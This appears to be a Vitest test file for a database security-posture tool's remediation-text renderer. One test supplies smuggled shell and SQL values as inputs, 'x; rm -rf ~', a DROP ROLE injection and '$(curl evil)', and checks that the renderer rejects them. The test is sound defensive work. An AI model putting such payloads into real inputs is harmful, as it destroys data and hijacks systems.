import { describe, expect, it } from 'vitest';
import { renderRemediation } from './render-remediation';
import { certExpiryCheck } from './certificate/check-cert-expiry';
import { passwordAgeCheck } from './passwords/check-password-age';
import { targetReachableCheck } from './availability/check-target-reachable';

const pg = { engine: 'postgresql', host: 'db1.prod.example', port: 6432, database: 'orders', user: 'posture_probe', namespace: 'payments', stanza: 'main' };

describe('renderRemediation', () => {
  it("keeps the target's engine lines without their label, drops the other engines', and fills in what Posture knows", () => {
    const text = renderRemediation(certExpiryCheck.remediation, pg);
    expect(text).toContain('  openssl s_client -connect db1.prod.example:6432 -starttls postgres');
    expect(text).toContain('SELECT pg_reload_conf();');
    expect(text).toContain('kubectl rollout restart statefulset/<name> -n payments');
    for (const other of ['Redis', 'RabbitMQ', 'Patroni', 'etcd', 'pgBackRest', 'tls-cert-file', 'PostgreSQL:', '<host>', '<port>']) expect(text).not.toContain(other);
  });

  it("gives another engine its own commands and none of PostgreSQL's", () => {
    const text = renderRemediation(certExpiryCheck.remediation, { engine: 'redis', host: '10.0.0.7', port: 6380 });
    expect(text).toContain('  openssl s_client -connect 10.0.0.7:6380 </dev/null');
    expect(text).toContain('tls-cert-file and tls-key-file');
    expect(text).not.toMatch(/starttls postgres|pg_reload_conf|ssl_cert_file|rabbitmq|patroni/i);
    expect(renderRemediation(passwordAgeCheck.remediation, { engine: 'rabbitmq', host: 'mq', port: 5671, user: 'monitor' })).toContain("  rabbitmqctl change_password monitor '<new password>'");
  });

  it('brackets an IPv6 host before its port and leaves no run of blank lines behind', () => {
    const text = renderRemediation(targetReachableCheck.remediation, { engine: 'etcd', host: 'fd00::12', port: 2379 });
    expect(text).toContain('openssl s_client -connect [fd00::12]:2379 </dev/null');
    expect(text).toContain('ss -ltnp | grep 2379');
    expect(text).toContain('  --listen-client-urls');
    expect(text).not.toContain('pg_isready');
    expect(text).not.toMatch(/\n\n\n/);
  });

  it('fills only plain names: a database or user with shell or SQL metacharacters keeps its placeholder', () => {
    const text = renderRemediation('pg_dump -Fc <db>\nALTER ROLE <user> PASSWORD x;\nkubectl -n <namespace>', {
      engine: 'postgresql', database: 'x; rm -rf ~', user: 'App"; DROP ROLE admin; --', namespace: '$(curl evil)',
    });
    expect(text).toBe('pg_dump -Fc <db>\nALTER ROLE <user> PASSWORD x;\nkubectl -n <namespace>');
  });

  it("the catalog's view (no engine) is the text as written, every engine's lines labelled", () => {
    expect(renderRemediation(certExpiryCheck.remediation, { engine: null })).toBe(certExpiryCheck.remediation);
    expect(certExpiryCheck.remediation).toContain('  Redis: tls-cert-file');
  });
});
